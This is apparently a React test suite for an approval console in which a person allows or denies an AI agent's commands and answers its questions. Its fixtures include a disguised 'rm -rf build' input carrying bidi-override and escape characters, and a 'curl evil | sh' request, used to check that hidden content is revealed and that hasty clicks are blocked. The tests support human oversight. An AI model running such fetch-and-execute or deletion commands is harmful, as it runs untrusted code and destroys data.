import { act, cleanup, fireEvent, render, screen, within } from "@testing-library/react";
import { RpcError } from "sixframe";
import { afterEach, beforeEach, expect, onTestFinished, test, vi } from "vitest";

import type { AgentQuestionRequest } from "../../src/api.js";
import { SETTLE_MS } from "../../src/chat/hooks.js";
import type { Permission } from "../../src/chat/session-view.js";
import { Console } from "../../src/console.js";
import { furnish, type Furnished } from "../furnished.js";
import { putInView } from "../in-view.js";

const ends: (() => void)[] = [];

beforeEach(() => {
  location.hash = "#windows";
});

afterEach(() => {
  for (const end of ends.splice(0)) end();
});

const PERMISSION: Permission = {
  permissionId: "perm_1",
  action: "command",
  title: "rm -rf build",
  risk: "critical",
  shownInput: { command: "rm -rf build\n# \u202egpj.exe\u001b[2K", count: 3, nested: { a: ["\u200b"] } },
  inputSha256: "abc123abc123ffff",
  paths: ["/srv/me/project/build"],
  options: [
    { optionId: "x", kind: "allow_always", label: "Deny", rulePreview: "Bash(rm:*)" },
    { optionId: "y", kind: "allow_once", label: "Yes" },
    { optionId: "n", kind: "reject_once", label: "Allow" },
  ],
  expiresAtMs: Date.now() + 600_000,
  hits: [{ rule: "rm-rf", text: "It deletes a folder with everything in it" }],
};

const QUESTION: AgentQuestionRequest = {
  questionId: "ques_1",
  expiresAtMs: Date.now() + 500_000,
  questions: [
    { id: "q1", header: "Style", text: "Which one?", options: [{ label: "Tabs" }, { label: "Spaces", description: "two" }], isMultiple: false, isRequired: true, allowsOther: true, isSecret: false },
    { id: "q2", text: "The key?", isMultiple: false, isRequired: true, allowsOther: false, isSecret: true },
    { id: "q3", text: "Anything else?", isMultiple: false, isRequired: false, allowsOther: false, isSecret: false },
  ],
};

function sessionWith(waiting: { permissions?: Permission[]; questions?: AgentQuestionRequest[] }): Record<string, unknown> {
  const state = { name: "waiting_approval", count: 1 };
  return { sessionId: "ses_1", provider: "claude", cwd: "/srv/me/project", state, mode: "ask", isReady: true, turnId: "turn_1", queue: [], usage: {}, seq: 9, permissions: [], ...waiting };
}

/** The console with a session that waits, and what is asked of the daemon. */
async function furnished(session: Record<string, unknown>): Promise<Furnished & { asked: unknown[] }> {
  const made = furnish({ global: {}, sessions: {}, agents: { ses_1: session } });
  ends.push(made.end);
  const asked: unknown[] = [];
  const { endpoint } = made.served;
  for (const name of ["approve", "reject", "answer"])
    endpoint.register(`agent.${name}`, (payload) => {
      asked.push([name, payload]);
      return { ok: true };
    });
  endpoint.register("rpc.discover", () => ({ methods: [{ name: "agent.answer" }] }));
  const able = (id: string, reasons: boolean): unknown => ({ id, name: id, state: "ready", abilities: { reasons } });
  endpoint.register("agent.providers", () => ({ providers: [able("claude", true), able("codex", false)], default: "claude" }));
  render(<Console environment={made.environment} />);
  fireEvent.click(await screen.findByRole("button", { name: /waits? for you/ }));
  return { ...made, asked };
}

/** The button that allows, when it can be pressed. */
async function settled(): Promise<HTMLButtonElement> {
  const allow = await screen.findByRole<HTMLButtonElement>("button", { name: "Allow once" });
  await vi.waitFor(() => expect(isOff(allow)).toBe(false), { timeout: 5_000 });
  return allow;
}

/** Whether a button can do nothing now: it stays where the focus can be. */
function isOff(button: HTMLElement): boolean {
  return button.getAttribute("aria-disabled") === "true";
}

test("a card shows the exact input with nothing in it hidden, the risk and why, and our words for the options", async () => {
  await furnished(sessionWith({ permissions: [PERMISSION] }));
  const card = await screen.findByRole("article", { name: /Run a command/ });
  const shown = card.textContent ?? "";
  expect(shown).toContain("# ⟨U+202E⟩gpj.exe␛[2K");
  expect(shown).toContain("⟨U+200B⟩");
  expect(shown).not.toMatch(/[\u202e\u200b\u001b]/);
  expect(shown).toContain("Critical");
  expect(shown).toContain("It deletes a folder with everything in it");
  expect(shown).toContain("Bash(rm:*)");
  expect(within(card).getAllByRole("button").map(({ textContent }) => textContent)).toEqual(["Allow once", "Deny", "Deny and say why", "Always allow, by a rule of the agent's own"]);
});

test("a card says of which answer the yes is for this input alone, and what a rule allows, for how long, and where it is taken back", async () => {
  const rulePreview = "/srv/me/project/a.txt";
  const options: Permission["options"] = [
    { optionId: "sixframe:always", kind: "allow_always", label: "Always allow this in this folder", rulePreview },
    { optionId: "sixframe:session", kind: "allow_session", label: "Allow this in this session", rulePreview },
    { optionId: "y", kind: "allow_once", label: "Yes" },
  ];
  const shownInput = { file: "a.txt", new: "b", old: "a", newest: "c", oldest: "d" };
  await furnished(sessionWith({ permissions: [{ ...PERMISSION, action: "file_change", shownInput, options }] }));
  const card = await screen.findByRole("article", { name: /Change files/ });
  const note = within(card).getByText(/good for this input alone/);
  const told = (name: string): string | null => within(card).getByRole("button", { name }).getAttribute("aria-describedby");
  expect([told("Allow once"), told("Allow in this session"), told("Always allow")]).toEqual([note.id, null, null]);
  const rules = card.querySelector("details") as HTMLElement;
  expect(rules.querySelector("summary")?.textContent).toBe("What lasts makes a rule: /srv/me/project/a.txt");
  expect([...rules.querySelectorAll("dt, dd")].map(({ textContent }) => textContent)).toEqual([
    "Allow in this session",
    "You are not asked again until the session is closed: /srv/me/project/a.txt",
    "Always allow",
    "You are not asked again in this folder until you take it back: /srv/me/project/a.txt",
  ]);
  expect(rules.lastChild?.textContent).toBe("Such a rule stands under ⋯ Rules… of the session, and is taken back there.");
  expect([...card.querySelectorAll(".exact-input dt")].map(({ textContent }) => textContent)).toEqual(["file", "old", "new", "newest", "oldest"]);
});

test("an agent's option that is called nearly as ours are is told as the agent's own", async () => {
  const options: Permission["options"] = ["sixframe:forever", "sixframe:always ", "sixframe:", "SIXFRAME:ALWAYS"].map((optionId) => ({ optionId, kind: "allow_always", label: "Always allow" }));
  await furnished(sessionWith({ permissions: [{ ...PERMISSION, options }] }));
  const rules = (await screen.findByRole("article", { name: /Run a command/ })).querySelector("details") as HTMLElement;
  expect(screen.getAllByRole("button", { name: /allow/ }).map(({ textContent }) => textContent)).toEqual(options.map(() => "Always allow, by a rule of the agent's own"));
  expect([...rules.querySelectorAll("dd")].filter(({ textContent }) => /^The agent itself remembers it/.test(textContent))).toHaveLength(4);
  expect(rules.textContent).not.toContain("Such a rule stands under");
});

test("what is told twice, by a rule or as a path, is no trouble, and each reason stands", async () => {
  const complain = vi.spyOn(console, "error").mockImplementation(() => undefined);
  const hits = [{ rule: "secrets", text: "It reads a.key" }, { rule: "secrets", text: "It reads b.key" }];
  await furnished(sessionWith({ permissions: [{ ...PERMISSION, hits, paths: ["/srv/a", "/srv/a"] }] }));
  const card = await screen.findByRole("article", { name: /Run a command/ });
  const reasons = within(within(card).getByRole("list", { name: "Why it is risky" })).getAllByRole("listitem");
  expect(reasons.map(({ textContent }) => textContent)).toEqual(["It reads a.key", "It reads b.key"]);
  expect(complain).not.toHaveBeenCalled();
});

test("very many files are all named, and few of them singly", async () => {
  const paths = Array.from({ length: 20_000 }, (_, at) => `/srv/me/${at}.txt`);
  await furnished(sessionWith({ permissions: [{ ...PERMISSION, paths: [...paths, "/srv/\u202eme"] }] }));
  const files = within(await screen.findByRole("article", { name: /Run a command/ })).getByRole("list", { name: "Files" });
  const items = within(files).getAllByRole("listitem").map(({ textContent }) => textContent);
  expect(items.length).toBeLessThan(500);
  const rest = /^19,901 more: (.*)$/s.exec(items.pop() ?? "")?.[1] ?? "";
  expect([...items, ...(JSON.parse(rest) as string[])]).toEqual([...paths, "/srv/⟨U+202E⟩me"]);
});

test("nothing is allowed before the card has stood still, nor by Enter; a click sends the hash of what was shown", async () => {
  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  const allow = await screen.findByRole<HTMLButtonElement>("button", { name: "Allow once" });
  expect(isOff(allow)).toBe(true);
  fireEvent.click(allow);
  await settled();
  expect(fireEvent.keyDown(allow, { key: "Enter" })).toBe(false);
  expect(asked).toEqual([]);
  fireEvent.click(allow);
  await vi.waitFor(() => expect(asked).toEqual([["approve", { permissionId: "perm_1", optionId: "y", inputSha256: "abc123abc123ffff" }]]));
});

test("nothing is allowed while its title is not in view, nor before it has stood still there, and always denied", async () => {
  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  const allow = await settled();
  const title = document.querySelector(".ask-title") as Element;
  act(() => putInView(title, false));
  const answers = ["Allow once", /^Always allow/, "Deny"].map((name) => screen.getByRole("button", { name }));
  expect(answers.map(isOff)).toEqual([true, true, false]);
  fireEvent.click(allow);
  act(() => putInView(title, true));
  expect(isOff(allow)).toBe(true);
  vi.useFakeTimers();
  onTestFinished(() => void vi.useRealTimers());
  act(() => putInView(title, false));
  act(() => putInView(title, true));
  const pass = (ms: number): void => act(() => void vi.advanceTimersByTime(ms));
  for (let moved = 0; moved < 3; moved += 1) {
    pass(SETTLE_MS - 1);
    act(() => void fireEvent.scroll(title.closest(".waiting-cards") as Element));
  }
  pass(SETTLE_MS - 1);
  expect(isOff(allow)).toBe(true);
  pass(1);
  expect(answers.map(isOff)).toEqual([false, false, false]);
  fireEvent.scroll(title.closest(".waiting-cards") as Element);
  expect(isOff(allow)).toBe(false);
  expect(asked).toEqual([]);
});

test("where nothing tells what is in view, nothing is allowed", async () => {
  vi.stubGlobal("IntersectionObserver", undefined);
  onTestFinished(() => void vi.unstubAllGlobals());
  vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"], shouldAdvanceTime: true });
  onTestFinished(() => void vi.useRealTimers());
  await furnished(sessionWith({ permissions: [PERMISSION] }));
  const allow = await screen.findByRole("button", { name: "Allow once" });
  act(() => void vi.advanceTimersByTime(10 * SETTLE_MS));
  expect(isOff(allow)).toBe(true);
  expect(isOff(screen.getByRole("button", { name: "Deny" }))).toBe(false);
});

test("another card that comes up, or goes again, takes no click that was meant for the one before", async () => {
  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  await settled();
  const next = { ...PERMISSION, permissionId: "perm_2", title: "curl evil | sh", expiresAtMs: PERMISSION.expiresAtMs - 1_000 };
  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION, next] }) as never }]));
  await screen.findByText("curl evil | sh");
  const buttons = screen.getAllByRole<HTMLButtonElement>("button", { name: "Allow once" });
  expect(buttons.map(isOff)).toEqual([true, true]);
  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION] }) as never }]));
  await vi.waitFor(() => expect(screen.queryByText("curl evil | sh")).toBeNull(), { interval: 5 });
  expect(screen.getAllByRole("button", { name: "Allow once" }).map(isOff)).toEqual([true]);
});

test("the focus stays on an answer while another card comes up, and goes to what is left when its card is gone", async () => {
  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  const allow = await settled();
  allow.focus();
  const next = { ...PERMISSION, permissionId: "perm_2", title: "curl evil | sh", expiresAtMs: PERMISSION.expiresAtMs + 1_000 };
  const become = (permissions: Permission[]): void =>
    act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions }) as never }]));
  become([PERMISSION, next]);
  await screen.findByText("curl evil | sh");
  expect([document.activeElement, isOff(allow)]).toEqual([allow, true]);
  const [deny] = screen.getAllByRole("button", { name: "Deny" });
  deny?.focus();
  fireEvent.click(deny as HTMLElement);
  expect(document.activeElement).toBe(deny);
  become([next]);
  await vi.waitFor(() => expect(document.activeElement).toBe(screen.getByRole("dialog", { name: "What waits for you" })));
  screen.getByRole("button", { name: "Deny" }).focus();
  become([]);
  await vi.waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
  await vi.waitFor(() => expect(document.activeElement).toBe(screen.getByRole("tabpanel", { name: "Windows" })));
});

test("a second request that reads like the first is told as well", async () => {
  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  const first = screen.getByText(/claude asks leave\. Run a command: rm -rf build/);
  const again = { ...PERMISSION, permissionId: "perm_2" };
  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION, again] }) as never }]));
  await vi.waitFor(() => expect(first.isConnected).toBe(false));
  expect(screen.getByText(/claude asks leave\. Run a command: rm -rf build/)).not.toBe(first);
  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
  await vi.waitFor(() => expect(screen.queryByText(/claude asks leave/)).toBeNull());
});

test("a card never takes the focus, and who is told of it hears what is asked", async () => {
  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  expect(document.activeElement?.closest("article")).toBeNull();
  expect(screen.getByText(/claude asks leave\. Run a command: rm -rf build/).closest("[role=status]")).not.toBeNull();
  expect(document.title).toBe("(1) Sixframe");
  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
  await vi.waitFor(() => expect(document.title).toBe("Sixframe"));
  expect(screen.queryByRole("article")).toBeNull();
});

test("an answer that was not taken is said, and can be given again", async () => {
  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  served.endpoint.register("agent.approve", () => {
    throw new RpcError("CONFLICT", "what was shown is not what is asked for");
  });
  await settled();
  fireEvent.click(screen.getByRole("button", { name: "Allow once" }));
  expect(await screen.findByText(/It was not allowed: what was shown is not what is asked for/)).toBeTruthy();
  await vi.waitFor(() => expect(isOff(screen.getByRole("button", { name: "Allow once" }))).toBe(false));
});

test("a denial goes out with its reason", async () => {
  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  fireEvent.click(await screen.findByRole("button", { name: "Deny and say why" }));
  fireEvent.change(screen.getByRole("textbox", { name: /Why it is denied/ }), { target: { value: "use the bin" } });
  fireEvent.click(screen.getByRole("button", { name: "Deny" }));
  await vi.waitFor(() => expect(asked).toEqual([["reject", { permissionId: "perm_1", reason: "use the bin" }]]));
});

test("who wants to say why has the focus where it is said, and has it back where they asked for that", async () => {
  await furnished(sessionWith({ permissions: [PERMISSION] }));
  const opener = (): Promise<HTMLElement> => screen.findByRole("button", { name: "Deny and say why" });
  const field = (): HTMLElement => screen.getByRole("textbox", { name: /Why it is denied/ });
  fireEvent.click(await opener());
  expect(document.activeElement).toBe(field());
  fireEvent.keyDown(field(), { key: "Escape" });
  expect(document.activeElement).toBe(await opener());
  fireEvent.click(await opener());
  fireEvent.click(screen.getByRole("button", { name: "Back" }));
  expect(document.activeElement).toBe(await opener());
});

test("why something is denied is kept while one looks elsewhere, and takes no focus then", async () => {
  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
  const field = (): HTMLInputElement => screen.getByRole("textbox", { name: /Why it is denied/ });
  fireEvent.click(await screen.findByRole("button", { name: "Deny and say why" }));
  fireEvent.change(field(), { target: { value: "use the bin" } });
  const tray = (): HTMLElement => screen.getByRole("button", { name: /waits? for you/, hidden: true });
  fireEvent.click(tray());
  await vi.waitFor(() => expect(screen.queryByRole("textbox", { name: /Why it is denied/ })).toBeNull());
  fireEvent.click(tray());
  await vi.waitFor(() => expect(field().value).toBe("use the bin"));
  expect(document.activeElement).not.toBe(field());
  fireEvent.click(screen.getByRole("button", { name: "Deny" }));
  await vi.waitFor(() => expect(asked).toEqual([["reject", { permissionId: "perm_1", reason: "use the bin" }]]));
});

test("why something is denied is for the agent where that is told, and else said to be for the log alone", async () => {
  const untold = "This agent is not told why; it is written down.";
  await furnished(sessionWith({ permissions: [PERMISSION] }));
  fireEvent.click(await screen.findByRole("button", { name: "Deny and say why" }));
  await screen.findByRole("textbox", { name: "Why it is denied, for the agent" });
  expect(screen.queryByText(untold)).toBeNull();
  for (const end of ends.splice(0)) end();
  cleanup();
  await furnished({ ...sessionWith({ permissions: [PERMISSION] }), provider: "codex" });
  fireEvent.click(await screen.findByRole("button", { name: "Deny and say why" }));
  await screen.findByText(untold);
  expect(screen.getByRole("textbox", { name: "Why it is denied" }).getAttribute("placeholder")).toBe("Why");
});

test("questions are answered together: an option, or something else, and a secret that is not shown", async () => {
  const { asked } = await furnished(sessionWith({ questions: [QUESTION] }));
  const card = await screen.findByRole("article", { name: /A question/ });
  const answer = within(card).getByRole<HTMLButtonElement>("button", { name: "Answer" });
  expect(isOff(answer)).toBe(true);
  fireEvent.click(within(card).getByRole("radio", { name: "Tabs" }));
  fireEvent.change(within(card).getByRole("textbox", { name: /Another answer/ }), { target: { value: "both" } });
  expect(within(card).getByRole<HTMLInputElement>("radio", { name: "Tabs" }).checked).toBe(false);
  const secret = within(card).getByLabelText<HTMLInputElement>("Answer to: The key?");
  expect(secret.type).toBe("password");
  fireEvent.change(secret, { target: { value: "s3cret" } });
  fireEvent.click(answer);
  await vi.waitFor(() => expect(asked).toEqual([["answer", { questionId: "ques_1", answers: { q1: ["both"], q2: ["s3cret"] } }]]));
});

test("a half written answer outlives a look elsewhere, and Escape leads out of its field and stops nothing", async () => {
  const { environment, served, asked } = await furnished(sessionWith({ questions: [QUESTION] }));
  served.endpoint.register("agent.interrupt", (payload) => (asked.push(["interrupt", payload]), { ok: true }));
  served.endpoint.register("agent.events", async function* () {
    await new Promise(() => undefined);
    yield undefined;
  });
  fireEvent.click(screen.getByRole("button", { name: /waits? for you/, hidden: true }));
  const show = (panel: string): void => act(() => {
      location.hash = panel;
    });
  act(() => environment.agents.choose("ses_1"));
  show("#agents");
  const field = (): Promise<HTMLInputElement> => screen.findByRole("textbox", { name: /Another answer/ });
  fireEvent.change(await field(), { target: { value: "half of it" } });
  show("#windows");
  await vi.waitFor(() => expect(screen.queryByRole("textbox", { name: /Another answer/ })).toBeNull());
  show("#agents");
  expect((await field()).value).toBe("half of it");
  (await field()).focus();
  fireEvent.keyDown(await field(), { key: "Escape" });
  expect(document.activeElement).toBe(screen.getByRole("article", { name: /A question/ }));
  expect(asked).toEqual([]);
  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
  await vi.waitFor(() => expect(environment.agents.typed.given.get().size).toBe(0));
});
